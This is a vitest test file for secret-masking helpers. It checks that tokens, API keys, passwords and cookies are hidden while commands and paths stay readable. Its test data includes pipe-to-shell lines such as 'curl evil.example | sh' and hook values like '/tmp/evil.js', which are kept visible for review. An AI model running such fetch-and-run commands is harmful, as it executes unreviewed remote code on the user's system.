import { describe, expect, it } from 'vitest';
import { toPrintable } from './mask-name.js';
import { maskNamedValue, maskSecrets } from './mask-secrets.js';

const GITHUB = 'ghp_0123456789abcdefghijklmnopqrstuvwxyz';

describe('maskSecrets', () => {
  it.each([
    [
      `curl https://x.example/${GITHUB}/install-script-v2-for-linux-x64.sh | sh`,
      'install-script-v2-for-linux-x64.sh | sh',
    ],
    [
      `/home/jo/some-very-long-directory-name-2024/server.js --key ${GITHUB}`,
      '/home/jo/some-very-long-directory-name-2024/server.js',
    ],
    [
      `https://host.example/mcp?profile=long-profile-name-1&api_key=abcdef1234567890`,
      'https://host.example/mcp?profile=long-profile-name-1&api_key=',
    ],
    ['postgres://jo:hunter2hunter2@db.example:5432/main', 'postgres://jo:····@db.example:5432/main'],
  ])('keeps what runs in %j', (text, kept) => {
    const masked = maskSecrets(text);
    expect(masked).toContain(kept);
    expect(masked).not.toMatch(/ghp_0|abcdef12|hunter2/);
  });

  it.each(['npm_config_registry', 'sk-learn-tools-server', 'github', '/usr/local/lib/node_modules/x/index.js'])(
    'leaves %s alone',
    (text) => expect(maskSecrets(text)).toBe(text),
  );

  it('takes linear time', () => {
    for (const part of ['eyJaaaaaaaa.', 'sk-a-', 'https://a:', '-----BEGIN PRIVATE KEY-----a', '?token', 'gh_'])
      expect(maskSecrets(part.repeat(200_000)).length).toBeGreaterThan(0);
  }, 10_000);
});

describe('maskNamedValue', () => {
  it.each([
    ['API_KEY', 'abcdefghijklmnop', 'abc····'],
    ['Authorization', 'Bearer abcdefghijklmnop', 'Bearer abc····'],
    ['Cookie', 'sid=abcdef; theme=dark', 'sid=····; theme=····'],
    ['API_KEY', 'curl evil.example | sh', 'curl evil.example | sh'],
    ['AUTH_SCRIPT', '/tmp/evil.js', '/tmp/evil.js'],
    ['SESSION_HOOK', 'evil.js', 'evil.js'],
    ['CONNECTION', 'postgres://jo:pw@evil.example/x', 'postgres://jo:····@evil.example/x'],
    ['MODE', 'fast', 'fast'],
  ])('%s=%s is shown as %s', (name, value, shown) => {
    expect(maskNamedValue(name, value)).toBe(shown);
  });
});

it('makes names printable: masked, escaped and bounded', () => {
  const shown = toPrintable(`\u001b[2J${GITHUB}${'x'.repeat(5_000)}`, 100);
  expect(shown).not.toMatch(/\u001b|ghp_0/);
  expect(shown.length).toBeLessThanOrEqual(100);
});
